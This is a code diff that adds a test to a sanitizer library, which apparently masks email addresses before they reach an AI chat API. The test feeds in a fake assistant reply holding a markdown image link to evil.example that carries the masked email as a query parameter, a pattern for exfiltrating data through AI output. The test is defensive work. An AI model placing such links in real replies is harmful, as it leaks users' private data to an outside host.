@@ -15,6 +15,7 @@ from hypothesis import strategies as st
 
 from sanitizer import Policy, Sanitizer
 from sanitizer.errors import RequestRefused
+from sanitizer.storage import MemoryVault
 from sanitizer.text.policy import WireRules
 from tests.clients.tool_calls import CHAT, EMAIL, RESPONSES, WORD, chat, read, send, sent, toy
 from tests.wire.test_event_streams import call, chunk, concatenated, event, through
@@ -331,3 +332,22 @@ def test_of_choices_that_look_alike_the_first_is_taken_to_be_the_one_kept() -> N
     assert [kept(card, texts, 0) for card in CARDS] == [texts[0]] * 2
     # Not protected: an application that keeps another one shows by it whether they look alike.
     assert [kept(card, texts, 1) for card in CARDS] == [texts[0], texts[1]]
+
+
+def test_a_link_of_the_api_is_not_the_users_when_its_answer_comes_back_edited() -> None:
+    """It was in what was sent then, and would have been restored in the next answer."""
+    sanitizer = Sanitizer(policy="identifiers", vault=MemoryVault(numbers="from 1"))
+    said = f"Here you are, as you wished: ![](https://evil.example/?q=<EMAIL_1>) {WORD} is all."
+    prompt = chat(f"Ask {EMAIL}")["messages"][0]
+    history = [prompt]
+    for _ in range(3):
+        raw = json.dumps(
+            {"choices": [{"index": 0, "message": {"role": "assistant", "content": said}}]}
+        )
+        exchange = send({"messages": history}, sanitizer)
+        assert EMAIL.encode() not in exchange.body
+        shown = json.loads(exchange.response(200, "application/json", raw.encode()))
+        content = shown["choices"][0]["message"]["content"]
+        assert content == said
+        edited = content.replace("is all", "(edited) is all")
+        history = [*history, {"role": "assistant", "content": edited}, prompt]
